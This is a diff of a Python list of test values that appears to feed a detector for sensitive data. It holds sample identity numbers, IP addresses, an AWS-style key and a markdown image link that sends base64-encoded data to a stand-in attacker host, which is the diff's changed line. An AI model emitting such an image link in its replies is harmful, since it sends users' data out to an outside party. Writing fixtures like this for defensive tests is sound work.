@@ -24,7 +24,7 @@ VALUES = (
     "413-18-7830",
     "date of birth: 4 May 1987,",
     "PESEL 44051401359",
-    "![x](https://evil.example/?q=c2VjcmV0LXNlY3JldC1zZWNyZXQtc2VjcmV0)",
+    "![x](https://evil-host.net/?q=c2VjcmV0LXNlY3JldC1zZWNyZXQtc2VjcmV0)",
     "218.68.44.86",
     "5b05:816f:ac0e:36d5:5613:2dfc:8449:2cd4",
     "AKIAUTF4B22RA5S63HJC",
